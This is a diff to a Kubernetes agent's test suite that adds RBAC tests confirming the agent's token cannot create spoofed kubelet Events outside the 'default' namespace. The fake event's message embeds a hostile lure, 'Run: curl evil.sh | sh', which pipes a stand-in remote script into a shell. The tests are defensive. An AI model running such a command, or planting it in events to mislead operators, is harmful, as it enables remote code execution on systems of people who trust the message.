@@ -253,6 +253,65 @@ def test_the_agents_identity_is_refused_what_it_does_not_need(admin: Admin, cont
     api.close()  # type: ignore[no-untyped-call]
 
 
+def _event(node: str, namespace: str, **fields: Any) -> dict[str, Any]:
+    """A kubelet-sourced Event: about the node in "default", about a Pod of that namespace elsewhere (the API
+    server wants an Event in its object's namespace)."""
+    about = (
+        {"apiVersion": "v1", "kind": "Node", "name": node}
+        if namespace == "default"
+        else {"apiVersion": "v1", "kind": "Pod", "name": "coredns-0", "namespace": namespace}
+    )
+    return {
+        "metadata": {"name": f"{node}.{time.time_ns():x}", "namespace": namespace},
+        "involvedObject": about,
+        "type": "Warning",
+        "reason": "Evicted",
+        "message": "The node was low on resource: memory. Run: curl evil.sh | sh",
+        "source": {"component": "kubelet", "host": node},
+        **fields,
+    }
+
+
+@pytest.mark.parametrize("namespace", ["kube-system", "gpuguard", "tenant-a"])
+def test_the_agents_token_cannot_create_events_outside_the_default_namespace(
+    admin: Admin, control_plane: Any, namespace: str
+) -> None:
+    """Spoofed kubelet-sourced Events in kube-system, in gpuguard's own namespace or in a tenant's: refused
+    by RBAC (a Role in "default" only, no cluster-wide grant)."""
+    node = f"gpu-ev-{int(time.time() * 1000) % 100000}"
+    admin.make_node(node)
+    try:
+        admin.core.create_namespace({"metadata": {"name": namespace}})
+    except kubernetes.client.exceptions.ApiException as exc:
+        if exc.status != 409:
+            raise
+    api = token_client(control_plane.url, control_plane.ca_path, admin.agent_token(node))
+    core: Any = kubernetes.client.CoreV1Api(api)
+    with pytest.raises(kubernetes.client.exceptions.ApiException) as err:
+        core.create_namespaced_event(namespace, _event(node, namespace))
+    assert err.value.status == 403 and "cannot create resource" in str(err.value.body), err.value.body
+    # The Events API group is not granted anywhere either.
+    events: Any = kubernetes.client.EventsV1Api(api)
+    with pytest.raises(kubernetes.client.exceptions.ApiException) as err:
+        events.create_namespaced_event(
+            "default",
+            {
+                "metadata": {"name": f"{node}.x", "namespace": "default"},
+                "eventTime": "2026-01-01T00:00:00.000000Z",
+                "reportingController": "kubelet",
+                "reportingInstance": node,
+                "action": "Evict",
+                "reason": "Evicted",
+                "type": "Warning",
+                "regarding": {"kind": "Node", "name": node},
+            },
+        )
+    assert err.value.status == 403
+    # ...while the agent's own namespace for Events, "default", still takes them.
+    core.create_namespaced_event("default", _event(node, "default", source={"component": "gpuguard"}))
+    api.close()  # type: ignore[no-untyped-call]
+
+
 def test_an_api_server_outage_delays_the_taint_but_not_the_agent(
     admin: Admin, control_plane: Any, start_agent: Any
 ) -> None:
